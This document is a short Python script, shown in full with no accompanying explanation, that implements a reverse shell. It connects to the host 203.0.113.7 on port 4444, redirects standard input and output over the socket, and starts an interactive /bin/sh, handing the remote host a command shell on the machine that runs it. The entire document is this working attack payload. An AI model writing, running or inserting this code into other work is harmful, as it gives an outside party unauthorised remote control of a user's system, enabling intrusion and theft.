import socket, subprocess, os
s = socket.socket(); s.connect(('203.0.113.7', 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
subprocess.call(['/bin/sh', '-i'])
